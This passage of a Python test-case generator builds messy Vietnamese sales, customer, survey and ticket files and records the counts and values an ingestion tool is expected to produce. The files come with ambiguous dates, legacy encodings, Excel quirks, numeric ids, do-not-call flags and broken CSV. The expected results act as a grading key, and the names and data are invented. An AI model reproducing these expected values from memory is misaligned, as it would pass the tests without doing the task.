    orders[6].when = datetime(2026, 9, 22, 10, 30)
    book = c.workbook()
    sheet = book.active
    sheet.title = "Sheet1"
    sheet.append(TX_HEADER)
    for o in orders:
        number = serial(o.when)
        sheet.append([o.order_id, int(number) if number == int(number) else number,
                      o.customer, o.amount, o.channel, o.category])
    c.save(book, "giao_dich.xlsx")
    c.ok(transactions=(18, 18, 0))
    for o in (orders[0], orders[6]):
        c.value("transactions.purchased_at", o.order_id, o.when)


@case("dates", "one_month_first_outlier",
      "24 day-first dates and one 09/25/2026 typed month-first")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 25, start=date(2026, 7, 1), end=date(2026, 9, 24))
    rows = tx_rows(orders, date_text=dmy)
    odd = 17
    orders[odd].when = datetime(2026, 9, 25)
    rows[odd][1] = "09/25/2026"
    assert sum(o.when.day > 12 for o in orders) >= 8
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.ok(transactions=(25, 24, 1))
    c.rejects("transactions", date_order_outlier=1)
    c.section("not_accepted")["transactions"] = [orders[odd].order_id]
    o = orders[3]
    c.value("transactions.purchased_at", o.order_id, datetime.combine(o.when.date(), time()))


@case("dates", "fully_ambiguous",
      "every date has day and month <= 12 (03/04/2026, 11/05/2026, ...) and they differ")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 8, 14, start=date(2025, 11, 1), end=date(2026, 9, 12))
    for o in orders:
        day = c.rng.randrange(1, 13)
        if day == o.when.month:
            day = day % 12 + 1
        o.when = o.when.replace(day=day)
    orders.sort(key=lambda o: o.when)
    c.write_csv("giao_dich.csv", TX_HEADER, tx_rows(orders, date_text=dmy))
    c.error("giao_dich.csv", "purchased_at")


# =============================================================================== encodings

LEGACY_HEADER = ["Mã KH", "Họ và tên", "Số điện thoại", "Tỉnh/Thành", "Giới tính"]
LEGACY_NAMES = ["Nguyễn Thị Hồng Nhung", "Trần Văn Đức", "Lê Thị Thu Hà", "Phạm Quốc Bảo",
                "Đặng Mỹ Linh", "Hoàng Minh Tuấn", "Bùi Thị Ngọc Trâm", "Đỗ Văn Hùng",
                "Võ Thị Kim Oanh", "Huỳnh Gia Hân", "Ngô Thanh Sơn", "Dương Thị Yến"]


def legacy_shop(c: Case, encode: Callable[[str], bytes], name: str = "khach_hang.csv",
                sep: str = ",") -> tuple[list[Person], list[Order]]:
    people, orders = shop(c.rng, 12, 24)
    for p, full in zip(people, LEGACY_NAMES, strict=True):
        p.name = full
        p.gender = "Nữ" if " Thị " in full or full.endswith(("Linh", "Hân")) else "Nam"
    c.write_csv("giao_dich.csv", TX_HEADER, tx_rows(orders))
    text = csv_text(LEGACY_HEADER, cust_rows(people), sep=sep)
    c.write_bytes(name, encode(text))
    c.ok(transactions=(24, 24, 0), customers=(12, 12, 0))
    for p in (people[0], people[1], people[4], people[6]):
        c.value("customers.name", p.id, p.name)
    c.value("customers.province", people[2].id, people[2].province)
    return people, orders


@case("encodings", "tcvn3_abc",
      "customers file saved in TCVN3 (ABC, .VnTime fonts): 'Hä vµ tªn', 'NguyÔn'")
def _(c: Case) -> None:
    legacy_shop(c, tcvn3)


@case("encodings", "vni_windows",
      "customers file saved in VNI-Windows: 'Hoï vaø teân', 'Nguyeãn'")
def _(c: Case) -> None:
    legacy_shop(c, vni)


@case("encodings", "double_encoded_utf8",
      "customers file whose UTF-8 was read as Windows-1252 and saved again: 'Nguyá»…n'")
def _(c: Case) -> None:
    legacy_shop(c, double_utf8)


@case("encodings", "utf8_and_cp1258_lines",
      "customers file appended from two machines: first lines UTF-8, the rest Windows-1258")
def _(c: Case) -> None:
    def mixed(text: str) -> bytes:
        lines = text.split("\r\n")
        head, tail = "\r\n".join(lines[:8]) + "\r\n", "\r\n".join(lines[8:])
        return head.encode("utf-8") + cp1258(tail)

    legacy_shop(c, mixed)


@case("encodings", "utf16_unicode_text",
      "customers saved by Excel as 'Unicode Text': UTF-16 LE with BOM, tab-separated, .txt")
def _(c: Case) -> None:
    legacy_shop(c, lambda text: b"\xff\xfe" + text.encode("utf-16-le"), name="khach_hang.txt",
                sep="\t")


@case("encodings", "windows_1258",
      "control: customers in Windows-1258 with combining tone marks (Vietnamese Windows CSV)")
def _(c: Case) -> None:
    legacy_shop(c, cp1258)


@case("encodings", "random_high_bytes",
      "customers' name column holds random high bytes that fit no Vietnamese encoding")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 12, 24)
    c.write_csv("giao_dich.csv", TX_HEADER, tx_rows(orders))
    undefined = [0x81, 0x8A, 0x8D, 0x8E, 0x8F, 0x90, 0x9A, 0x9D, 0x9E]  # none in Windows-1258
    lines = [csv_text(LEGACY_HEADER, []).encode("utf-8").rstrip(b"\r\n")]
    for p in people:
        garbage = bytes(c.rng.choice(undefined) if k % 3 == 0 else c.rng.randrange(0x80, 0x100)
                        for k in range(c.rng.randrange(8, 15)))
        garbage = garbage.replace(b",", b"").replace(b'"', b"")
        lines.append(b",".join([p.id.encode(), garbage, p.phone.encode(),
                                b"", b""]))
    c.write_bytes("khach_hang.csv", b"\r\n".join(lines) + b"\r\n")
    c.error("khach_hang.csv")


# =============================================================================== excel

def tx_sheet(sheet, orders: Sequence[Order], header: Sequence[str] = TX_HEADER) -> None:  # noqa: ANN001
    sheet.append(list(header))
    for o in orders:
        sheet.append([o.order_id, o.when, o.customer, o.amount, o.channel, o.category])
        sheet.cell(row=sheet.max_row, column=2).number_format = "dd/mm/yyyy hh:mm"


@case("excel", "hidden_stale_sheet",
      "giao_dich.xlsx: a hidden first sheet with last year's data, the real data on the "
      "visible second sheet")
def _(c: Case) -> None:
    _, stale = shop(c.rng, 10, 15, start=date(2025, 6, 1), end=date(2025, 9, 28),
                    first_order=901)
    people, orders = shop(c.rng, 10, 18)
    book = c.workbook()
    old = book.active
    old.title = "Sheet1"
    tx_sheet(old, stale)
    old.sheet_state = "hidden"
    old.sheet_view.tabSelected = False
    new = book.create_sheet("Tháng 6-9")
    tx_sheet(new, orders)
    new.sheet_view.tabSelected = True
    book.active = 1
    c.save(book, "giao_dich.xlsx")
    c.ok(transactions=(18, 18, 0))
    c.section("not_accepted")["transactions"] = [stale[0].order_id, stale[5].order_id]
    c.value("transactions.amount", orders[0].order_id, float(orders[0].amount))
    c.value("transactions.purchased_at", orders[17].order_id, orders[17].when)


@case("excel", "sheet_per_month",
      "giao_dich.xlsx with one sheet per month: Tháng 7, Tháng 8, Tháng 9")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 12, 30, start=date(2026, 7, 1), end=date(2026, 9, 30))
    book = c.workbook()
    first = True
    for month in (7, 8, 9):
        sheet = book.active if first else book.create_sheet()
        first = False
        sheet.title = f"Tháng {month}"
        tx_sheet(sheet, [o for o in orders if o.when.month == month])
    c.save(book, "giao_dich.xlsx")
    c.ok(transactions=(30, 30, 0))
    for month in (7, 8, 9):
        o = next(o for o in orders if o.when.month == month)
        c.value("transactions.amount", o.order_id, float(o.amount))


@case("excel", "title_rows",
      "giao_dich.xlsx with the shop's name, the report title and a blank row above the header")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 18, start=date(2026, 9, 1), end=date(2026, 9, 30))
    book = c.workbook()
    sheet = book.active
    sheet.title = "Báo cáo"
    sheet.append(["CÔNG TY TNHH MỸ PHẨM HOA SEN"])
    sheet.append(["BÁO CÁO BÁN HÀNG THÁNG 9/2026"])
    sheet.append(["Từ ngày 01/09/2026 đến ngày 30/09/2026"])
    sheet.append([])
    sheet.merge_cells("A2:F2")
    tx_sheet(sheet, orders)
    c.save(book, "giao_dich.xlsx")
    c.ok(transactions=(18, 18, 0))
    c.value("transactions.amount", orders[0].order_id, float(orders[0].amount))
    c.value("transactions.customer_id", orders[5].order_id, orders[5].customer)


@case("excel", "two_row_merged_header",
      "giao_dich.xlsx whose header takes two rows: merged groups (Khách hàng, Đơn hàng) over "
      "the column names, STT and Ngày mua merged down")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 18)
    names = {p.id: p.name for p in people}
    book = c.workbook()
    sheet = book.active
    sheet.title = "Đơn hàng"
    sheet.append(["STT", "Khách hàng", None, "Ngày mua", "Đơn hàng", None, None])
    sheet.append([None, "Mã KH", "Tên khách hàng", None, "Số hóa đơn", "Kênh", "Thành tiền"])
    for rng_ in ("A1:A2", "B1:C1", "D1:D2", "E1:G1"):
        sheet.merge_cells(rng_)
    for i, o in enumerate(orders, start=1):
        sheet.append([i, o.customer, names[o.customer], o.when, o.order_id, o.channel, o.amount])
        sheet.cell(row=sheet.max_row, column=4).number_format = "dd/mm/yyyy hh:mm"
    c.save(book, "giao_dich.xlsx")
    c.ok(transactions=(18, 18, 0))
    c.value("transactions.amount", orders[3].order_id, float(orders[3].amount))
    c.value("transactions.customer_id", orders[3].order_id, orders[3].customer)
    c.value("transactions.purchased_at", orders[3].order_id, orders[3].when)


@case("excel", "subtotal_and_total_rows",
      "giao_dich.xlsx with a 'Cộng ngày dd/mm/yyyy' subtotal after each day and a final "
      "'Tổng cộng' row")
def _(c: Case) -> None:
    people, _ = shop(c.rng, 10, 10)
    days = [date(2026, 9, d) for d in (22, 23, 24, 25, 26)]
    orders: list[Order] = []
    for d in days:
        for _k in range(c.rng.randrange(3, 5)):
            orders.append(Order("", c.rng.choice(people).id,
                                datetime.combine(d, time(c.rng.randrange(8, 21),
                                                         c.rng.randrange(60))),
                                c.rng.choice(PRICES), c.rng.choice(CHANNELS),
                                c.rng.choice(CATEGORIES), ""))
    orders.sort(key=lambda o: o.when)
    for i, o in enumerate(orders, start=1):
        o.order_id = f"HD{i:04d}"
    book = c.workbook()
    sheet = book.active
    sheet.title = "Bán hàng"
    sheet.append(["STT", "Ngày mua", "Số hóa đơn", "Mã KH", "Thành tiền"])
    n = 0
    for d in days:
        day_orders = [o for o in orders if o.when.date() == d]
        for o in day_orders:
            n += 1
            sheet.append([n, o.when, o.order_id, o.customer, o.amount])
            sheet.cell(row=sheet.max_row, column=2).number_format = "dd/mm/yyyy hh:mm"
        sheet.append([f"Cộng ngày {dmy(d)}", None, None, None,
                      sum(o.amount for o in day_orders)])
        sheet.merge_cells(start_row=sheet.max_row, start_column=1, end_row=sheet.max_row,
                          end_column=4)
    sheet.append(["Tổng cộng", None, None, None, sum(o.amount for o in orders)])
    sheet.merge_cells(start_row=sheet.max_row, start_column=1, end_row=sheet.max_row,
                      end_column=4)
    c.save(book, "giao_dich.xlsx")
    real = len(orders)
    c.ok(transactions=(real + len(days) + 1, real, len(days) + 1))
    c.rejects("transactions", total_row=len(days) + 1)
    c.section("sums")["transactions.amount"] = float(sum(o.amount for o in orders))
    c.value("transactions.amount", orders[-1].order_id, float(orders[-1].amount))


@case("excel", "formulas_without_cached_values",
      "giao_dich.xlsx whose Thành tiền column is =SL*Đơn giá formulas never calculated "
      "(written by a web shop's export, no cached values)")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 16)
    book = c.workbook()
    sheet = book.active
    sheet.title = "Orders"
    sheet.append(["Mã đơn", "Ngày mua", "Mã KH", "SL", "Đơn giá", "Thành tiền"])
    for o in orders:
        r = sheet.max_row + 1
        qty = c.rng.randrange(1, 4)
        sheet.append([o.order_id, o.when, o.customer, qty, o.amount, f"=D{r}*E{r}"])
        sheet.cell(row=r, column=2).number_format = "dd/mm/yyyy hh:mm"
    c.save(book, "giao_dich.xlsx")
    c.error("giao_dich.xlsx", "amount")


@case("excel", "repeated_header_row",
      "giao_dich.xlsx where a second block was pasted with its header row in the middle")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 20)
    book = c.workbook()
    sheet = book.active
    sheet.title = "Giao dịch"
    tx_sheet(sheet, orders[:11])
    sheet.append(TX_HEADER)
    for o in orders[11:]:
        sheet.append([o.order_id, o.when, o.customer, o.amount, o.channel, o.category])
        sheet.cell(row=sheet.max_row, column=2).number_format = "dd/mm/yyyy hh:mm"
    c.save(book, "giao_dich.xlsx")
    c.ok(transactions=(21, 20, 1))
    c.rejects("transactions", repeated_header=1)
    c.value("transactions.amount", orders[15].order_id, float(orders[15].amount))


# =============================================================================== ids

def numeric_people(c: Case, n: int, base: int = 100_101) -> list[Person]:
    people = [person(c.rng, i) for i in range(n)]
    for i, p in enumerate(people):
        p.id = str(base + 11 * i)
    return people


def numeric_orders(c: Case, people: Sequence[Person], n: int) -> list[Order]:
    _, orders = shop(c.rng, len(people), n)
    ids = [p.id for p in people]
    for o in orders:
        o.customer = ids[int(o.customer[2:]) - 1]
    return orders


@case("ids", "float_suffix",
      "transactions written by pandas with customer ids 100123.0; customers have 100123")
def _(c: Case) -> None:
    people = numeric_people(c, 12)
    orders = numeric_orders(c, people, 40)
    tables = {"surveys": surveys_for(c.rng, people, orders, 10),
              "tickets": tickets_for(c.rng, orders, 6)}
    c.write_csv("giao_dich.csv", TX_HEADER,
                tx_rows([Order(o.order_id, f"{o.customer}.0", o.when, o.amount, o.channel,
                               o.category, o.store) for o in orders], date_text=iso,
                        amount_text=lambda a: f"{a:.1f}"), bom=False, newline="\n")
    c.write_csv("khach_hang.csv", CUST_HEADER, cust_rows(people))
    c.write_csv("khao_sat.csv", SURVEY_HEADER, tables["surveys"])
    c.write_csv("phieu_ho_tro.csv", TICKET_HEADER, tables["tickets"])
    c.ok(transactions=(40, 40, 0), customers=(12, 12, 0), surveys=(10, 10, 0),
         tickets=(6, 6, 0))
    c.section("join").update({"customers": {"unmatched": 0}, "surveys": {"unmatched": 0},
                              "tickets": {"unmatched": 0}})
    c.value("transactions.customer_id", orders[0].order_id, orders[0].customer)
    c.expected["cli"] = "all"


@case("ids", "leading_zeros",
      "customers xlsx keeps ids as text 000123; transactions (through Excel) have 123")
def _(c: Case) -> None:
    people = numeric_people(c, 12, base=101)
    orders = numeric_orders(c, people, 24)
    c.write_csv("giao_dich.csv", TX_HEADER, tx_rows(orders))
    book = c.workbook()
    sheet = book.active
    sheet.title = "Khách hàng"
    sheet.append(CUST_HEADER)
    for p in people:
        sheet.append([f"{int(p.id):06d}", p.name, p.phone, p.province, p.gender])
        sheet.cell(row=sheet.max_row, column=1).number_format = "@"
        sheet.cell(row=sheet.max_row, column=3).number_format = "@"
    c.save(book, "khach_hang.xlsx")
    c.ok(transactions=(24, 24, 0), customers=(12, 12, 0))
    c.section("join")["customers"] = {"unmatched": 0}
    c.expected["file_notes"] = ["ids_respelled"]


@case("ids", "scientific_notation",
      "phone-number customer ids shown by Excel as 8.49E+10 in some rows")
def _(c: Case) -> None:
    people = numeric_people(c, 10)
    for p in people:
        p.id = "84" + p.phone[1:]
    orders = numeric_orders(c, people, 20)
    rows = tx_rows(orders)
    spoiled = [2, 7, 11, 16]
    for i in spoiled:
        rows[i][2] = f"{float(orders[i].customer):.2E}".replace("E+", "E+")
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.write_csv("khach_hang.csv", CUST_HEADER, cust_rows(people))
    c.ok(transactions=(20, 16, 4), customers=(10, 10, 0))
    c.rejects("transactions", id_lost_precision=4)
    c.section("not_accepted")["transactions"] = [orders[i].order_id for i in spoiled]


@case("ids", "customers_match_no_transaction",
      "customers keyed KH0001.. while transactions use phone numbers as customer ids")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 12, 24)
    phones = {p.id: p.phone for p in people}
    rows = tx_rows(orders)
    for row in rows:
        row[2] = phones[row[2]]
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.write_csv("khach_hang.csv", CUST_HEADER, cust_rows(people))
    c.error("khach_hang.csv", "customer_id")


@case("ids", "unknown_customers_in_surveys_tickets",
      "3 survey answers and 2 tickets from customer ids that are in neither customers nor "
      "transactions")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 12, 30)
    surveys = surveys_for(c.rng, people, orders, 15)
    tickets = tickets_for(c.rng, orders, 8)
    for i, stranger in zip((2, 8, 13), ("KH9001", "KH9002", "KH9003"), strict=True):
        surveys[i][0] = stranger
    for i, stranger in zip((1, 5), ("KH9004", "KH9001"), strict=True):
        tickets[i][1] = stranger
    write_plain_shop(c, people, orders)
    c.write_csv("khao_sat.csv", SURVEY_HEADER, surveys)
    c.write_csv("phieu_ho_tro.csv", TICKET_HEADER, tickets)
    c.ok(transactions=(30, 30, 0), customers=(12, 12, 0), surveys=(15, 15, 0),
         tickets=(8, 8, 0))
    c.section("join").update({"surveys": {"unmatched": 3}, "tickets": {"unmatched": 2},
                              "customers": {"unmatched": 0}})


# =============================================================================== do_not_call

DNC_HEADER = [*CUST_HEADER, "Không gọi"]


def dnc_shop(c: Case, flags: Sequence[str]) -> Person:
    """A shop where one customer (with an open ticket and a detractor answer: a sure call)
    appears ``len(flags)`` times in customers with these do-not-call values."""
    people, orders = full_shop(c, customers=30, orders=90, surveys=20, tickets=8)
    target = people[4]
    last = max(o.when for o in orders if o.customer == target.id)
    c.tables["tickets"].append(["PH0099", target.id, dmy_hm(last + timedelta(days=1)),  # type: ignore[attr-defined]
                                "", "", "Hotline", "Sản phẩm lỗi", AGENTS[0], "Đang xử lý"])
    c.tables["surveys"].append([target.id, dmy_hm(last + timedelta(days=1, hours=2)), 2, 1,  # type: ignore[attr-defined]
                                "Hàng lỗi mà chưa ai gọi lại"])
    counts = write_full_shop(c, people, orders)
    rows = [[*r, "không" if i % 3 else ""] for i, r in enumerate(cust_rows(people))]
    at = people.index(target)
    rows[at][-1] = flags[0]
    for k, flag in enumerate(flags[1:], start=1):
        again = list(rows[at])
        again[-1] = flag
        if k == 1:
            again[2] = again[2][:-3] + "468"   # the phone was updated in the later row
        rows.insert(len(rows) - 3 * k, again)
    c.write_csv("khach_hang.csv", DNC_HEADER, rows)
    n = len(people)
    counts["customers"] = (len(rows), n, len(rows) - n)
    c.ok(**counts)
    if len(rows) > n:  # the later row is folded into the first: either code says so
        c.rejects("customers", duplicate_key__or__merged_update=len(rows) - n)
    c.value("customers.do_not_call", target.id, True)
    c.value("customers.do_not_call", people[0].id, False)
    c.expected["never_called"] = [target.id]
    c.expected["cli"] = "all"
    return target


@case("do_not_call", "later_row_sets_flag",
      "the same customer twice in customers; the second row sets Không gọi = có")
def _(c: Case) -> None:
    dnc_shop(c, ["", "có"])


@case("do_not_call", "conflicting_rows",
      "the same customer twice: Không gọi = có, then a later row with không")
def _(c: Case) -> None:
    dnc_shop(c, ["có", "không"])


@case("do_not_call", "unreadable_value",
      "Không gọi = ? for one customer (unreadable: must count as do not call)")
def _(c: Case) -> None:
    dnc_shop(c, ["?"])


# =============================================================================== csv

def csv_shop(c: Case, n: int = 20) -> tuple[list[Person], list[Order], list[list[object]]]:
    people, orders = shop(c.rng, 10, n)
    return people, orders, tx_rows(orders)


@case("csv", "unbalanced_quote",
      "a product field opens a quote that never closes, swallowing the rows after it")
def _(c: Case) -> None:
    people, orders, rows = csv_shop(c)
    text = csv_text(TX_HEADER, rows[:7])
    broken = rows[7]
    text += ",".join(str(v) for v in broken[:5]) + ',"Kem chống nắng 50ml\r\n'
    text += csv_text(None, rows[8:])
    c.write_bytes("giao_dich.csv", b"\xef\xbb\xbf" + text.encode("utf-8"))
    c.ok(transactions=(20, 19, 1))
    c.rejects("transactions", bad_line=1)
    c.section("not_accepted")["transactions"] = [orders[7].order_id]
    for i in (8, 14, 19):
        c.value("transactions.amount", orders[i].order_id, float(orders[i].amount))


@case("csv", "nul_bytes",
      "a POS export with customer ids padded with NUL bytes and 256 NULs after the last line")
def _(c: Case) -> None:
    people, orders, rows = csv_shop(c)
    for i in (2, 9, 15):
        rows[i][2] = f"{rows[i][2]}\x00\x00"
    text = csv_text(TX_HEADER, rows)
    c.write_bytes("giao_dich.csv", text.encode("utf-8") + b"\x00" * 256)
    c.ok(transactions=(20, 20, 0))
    for i in (2, 9):
        c.value("transactions.customer_id", orders[i].order_id, orders[i].customer)
    c.value("transactions.amount", orders[19].order_id, float(orders[19].amount))


@case("csv", "cr_only_line_endings",
      "old Mac Excel 'CSV (Macintosh)': lines end in a lone CR")
def _(c: Case) -> None:
    people, orders, rows = csv_shop(c)
    c.write_csv("giao_dich.csv", TX_HEADER, rows, newline="\r", bom=False)
    c.ok(transactions=(20, 20, 0))
    for i in (0, 19):
        c.value("transactions.amount", orders[i].order_id, float(orders[i].amount))
        c.value("transactions.purchased_at", orders[i].order_id, orders[i].when)


@case("csv", "truncated_last_line",
      "file cut mid-line (copy interrupted): the last row stops inside the order's channel")
def _(c: Case) -> None:
    people, orders, rows = csv_shop(c)
    text = csv_text(TX_HEADER, rows)
    last = csv_text(None, rows[-1:])
    cut = text[: len(text) - len(last)] + last[: last.index(rows[-1][4]) + 2]
    c.write_bytes("giao_dich.csv", b"\xef\xbb\xbf" + cut.encode("utf-8"))
    c.ok(transactions=(20, 19, 1))
    c.rejects("transactions", bad_line__or__truncated_line=1)
    c.section("not_accepted")["transactions"] = [orders[-1].order_id]


@case("csv", "trailing_delimiters",
      "every data row ends with an extra comma the header does not have")
def _(c: Case) -> None:
    people, orders, rows = csv_shop(c)
    text = csv_text(TX_HEADER, [])
    text += "".join(csv_text(None, [r]).replace("\r\n", ",\r\n") for r in rows)
    c.write_bytes("giao_dich.csv", b"\xef\xbb\xbf" + text.encode("utf-8"))
    c.ok(transactions=(20, 20, 0))
    for i in (0, 7, 19):
        c.value("transactions.amount", orders[i].order_id, float(orders[i].amount))
        c.value("transactions.customer_id", orders[i].order_id, orders[i].customer)


@case("csv", "same_header_twice",
      "two columns both headed Thành tiền (before and after VAT)")
def _(c: Case) -> None:
    people, orders, rows = csv_shop(c)
    header = [*TX_HEADER[:4], "Thành tiền", *TX_HEADER[4:]]
    out = [[*r[:4], vnd(round(orders[i].amount * 1.08, -3)), *r[4:]]
           for i, r in enumerate(rows)]
    c.write_csv("giao_dich.csv", header, out)
    c.error("giao_dich.csv", "amount")


@case("csv", "field_over_csv_limit",
      "a survey comment longer than 131072 characters (the csv module's field limit)")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 20)
    write_plain_shop(c, people, orders)
    surveys = surveys_for(c.rng, people, orders, 8)
    chunk = "shop giao hang cham qua, goi tong dai khong ai nghe may. "
    surveys[3][4] = (chunk * (131_500 // len(chunk) + 1))[:131_500]
    c.write_csv("khao_sat.csv", SURVEY_HEADER, surveys)
    c.ok(transactions=(20, 20, 0), customers=(10, 10, 0), surveys=(8, 8, 0))


@case("csv", "concatenated_monthly_exports",
      "two monthly exports joined with copy /b: the second header (and its BOM) in the middle")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 24, start=date(2026, 8, 1), end=date(2026, 9, 30))
    august = [o for o in orders if o.when.month == 8]
    september = [o for o in orders if o.when.month == 9]
    data = b""
    for part in (august, september):
        data += b"\xef\xbb\xbf" + csv_text(TX_HEADER, tx_rows(part)).encode("utf-8")
    c.write_bytes("giao_dich.csv", data)
    c.ok(transactions=(25, 24, 1))
    c.rejects("transactions", repeated_header=1)
    c.value("transactions.amount", september[0].order_id, float(september[0].amount))


@case("csv", "excel_sep_line",
      "Excel's 'sep=;' hint on the first line, then a semicolon-separated file")
def _(c: Case) -> None:
    people, orders, rows = csv_shop(c, 15)
    text = "sep=;\r\n" + csv_text(TX_HEADER, rows, sep=";")
    c.write_bytes("giao_dich.csv", text.encode("utf-8"))
    c.ok(transactions=(15, 15, 0))
    c.value("transactions.amount", orders[4].order_id, float(orders[4].amount))


@case("csv", "zero_byte_optional_file",
      "khao_sat.csv is an empty (0-byte) file: the survey export failed")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 20)
    write_plain_shop(c, people, orders)
    c.write_bytes("khao_sat.csv", b"")
    c.ok(transactions=(20, 20, 0), customers=(10, 10, 0))


@case("csv", "semicolon_decimal_comma",
      "semicolon-separated file from a European-locale Excel: amounts 199000,00")
def _(c: Case) -> None:
    people, orders, rows = csv_shop(c, 15)
    for i, row in enumerate(rows):
        row[3] = f"{orders[i].amount},00" if i % 4 else f"{orders[i].amount},50"
    c.write_csv("giao_dich.csv", TX_HEADER, rows, sep=";")
    c.ok(transactions=(15, 15, 0))
    c.value("transactions.amount", orders[0].order_id, orders[0].amount + 0.5)
    c.value("transactions.amount", orders[1].order_id, float(orders[1].amount))


# =============================================================================== surveys

@case("surveys", "score_formats",
      "scores written 9/10, 10 điểm and stars ★★★★☆")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 12, 24)
    write_plain_shop(c, people, orders)
    nps_texts = [("9/10", 9), ("10 điểm", 10), ("7/10", 7), ("8 điểm", 8), ("6", 6),
                 ("10/10", 10), ("3/10", 3), ("9 điểm", 9)]
    stars = [("★★★★☆", 4), ("★★★★★", 5), ("★★★☆☆", 3), ("★★★★☆", 4), ("★★☆☆☆", 2),
             ("★★★★★", 5), ("★☆☆☆☆", 1), ("★★★★★", 5)]
    rows = []
    for p, (nps_text, nps), (star_text, csat) in zip(people, nps_texts, stars, strict=False):
        first = min(o.when for o in orders if o.customer == p.id)
        when = min(first + timedelta(days=2, hours=1), datetime(2026, 9, 30, 10, 0))
        rows.append([p.id, dmy_hm(when), nps_text, star_text, ""])
        c.value("surveys.nps", p.id, nps)
        c.value("surveys.csat", p.id, csat)
    rows.sort(key=lambda r: datetime.strptime(r[1], "%d/%m/%Y %H:%M"))
    c.write_csv("khao_sat.csv", SURVEY_HEADER, rows)
    c.ok(transactions=(24, 24, 0), customers=(12, 12, 0), surveys=(8, 8, 0))


@case("surveys", "unrecognised_score_header",
      "the NPS column is headed 'Điểm giới thiệu (0-10)'")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 12, 24)
    write_plain_shop(c, people, orders)
    rows = surveys_for(c.rng, people, orders, 12)
    header = ["Mã KH", "Ngày khảo sát", "Điểm giới thiệu (0-10)", "Mức độ hài lòng", "Góp ý"]
    c.write_csv("khao_sat.csv", header, rows)
    c.ok(transactions=(24, 24, 0), customers=(12, 12, 0), surveys=(12, 12, 0))
    c.section("kept_column")["surveys"] = {"canonical": "nps", "header": header[2]}


@case("surveys", "cancelled_ticket_status",
      "tickets with status Hủy / HỦY / Đã hủy and no closing date")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 12, 30, start=date(2026, 7, 1))
    write_plain_shop(c, people, orders)
    rows = tickets_for(c.rng, orders, 10, open_last=0)
    for i, status in ((3, "Hủy"), (6, "HỦY"), (8, "Đã hủy")):
        rows[i][3] = rows[i][4] = ""
        rows[i][8] = status
        c.value("tickets.status", rows[i][0], "cancelled")
        c.section("ticket_states")[rows[i][0]] = "closed"
    rows[9][2] = "25/09/2026 10:20"
    rows[9][3] = "25/09/2026 11:05"
    rows[9][4] = ""
    rows[9][8] = "Đang xử lý"
    c.section("ticket_states")[rows[9][0]] = "open"
    c.write_csv("phieu_ho_tro.csv", TICKET_HEADER, rows)
    c.ok(transactions=(30, 30, 0), customers=(12, 12, 0), tickets=(10, 10, 0))


@case("surveys", "answered_before_first_purchase",
      "8 survey answers dated weeks before the customer's first purchase: set aside, so they "
      "cannot decide a period's NPS on their own")
def _(c: Case) -> None:
    people, orders = full_shop(c, customers=30, orders=90, surveys=25,
                               start=date(2026, 3, 1))
    early = []
    for p in people[:8]:
        first = min(o.when for o in orders if o.customer == p.id)
        when = first - timedelta(days=20 + c.rng.randrange(40))
        early.append([p.id, dmy_hm(when), c.rng.choice([9, 10, 8, 7]), 5, "Khảo sát trước mua"])
    c.tables["surveys"] = sorted(c.tables["surveys"] + early,  # type: ignore[attr-defined]
                                 key=lambda r: datetime.strptime(r[1], "%d/%m/%Y %H:%M"))
    counts = write_full_shop(c, people, orders)
    read = counts["surveys"][0]
    counts["surveys"] = (read, read - len(early), len(early))
    c.ok(**counts)
    c.section("rejects")["surveys"] = {"answered_before_first_purchase": len(early)}
    c.expected["cli"] = "all"
    c.section("cli_exit")["kpis"] = 0


# =============================================================================== crashes

@case("crashes", "blank_channel_walk_in",
      "walk-in sales have an empty Kênh (channel) cell")
def _(c: Case) -> None:
    people, orders = full_shop(c)
    for o in orders:
        if o.channel == "Cửa hàng":
            o.channel = ""
    c.ok(**write_full_shop(c, people, orders))
    c.expected["cli"] = "all"


@case("crashes", "last_years_export",
      "every purchase is in 2024 while the as-of date is 2026-10-01")
def _(c: Case) -> None:
    people, orders = full_shop(c, start=date(2024, 1, 5), end=date(2024, 12, 20))
    c.ok(**write_full_shop(c, people, orders))
    c.expected["cli"] = "all"


@case("crashes", "no_nps_column",
      "surveys with CSAT only: no NPS column at all")
def _(c: Case) -> None:
    people, orders = full_shop(c)
    c.tables["surveys"] = [[r[0], r[1], r[3], r[4]] for r in c.tables["surveys"]]  # type: ignore[attr-defined]
    counts = write_full_shop(c, people, orders, skip=["surveys"])
    c.write_csv("khao_sat.csv", ["Mã KH", "Ngày khảo sát", "Mức độ hài lòng", "Góp ý"],
                c.tables["surveys"])  # type: ignore[attr-defined]
    n = len(c.tables["surveys"])  # type: ignore[attr-defined]
    c.ok(**counts, surveys=(n, n, 0))
    c.expected["cli"] = "all"


@case("crashes", "one_customer",
      "a shop that exported a single customer (six purchases, one survey, one ticket)")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 1, 6, start=date(2026, 4, 1))
    for o, day in zip(orders, (14, 3, 22, 9, 17, 25), strict=True):
        o.when = o.when.replace(day=day)   # some day above 12: the dates read one way only
    write_plain_shop(c, people, orders)
    c.write_csv("khao_sat.csv", SURVEY_HEADER,
                [[people[0].id, "27/09/2026 10:05", 9, 5, "Rất hài lòng"]])
    c.write_csv("phieu_ho_tro.csv", TICKET_HEADER,
                [["PH0001", people[0].id, "26/09/2026 15:20", "26/09/2026 16:02", "",
                  "Hotline", "Đổi trả", AGENTS[1], "Đang xử lý"]])
    c.ok(transactions=(6, 6, 0), customers=(1, 1, 0), surveys=(1, 1, 0), tickets=(1, 1, 0))
    c.expected["cli"] = "all"


@case("crashes", "pdf_output",
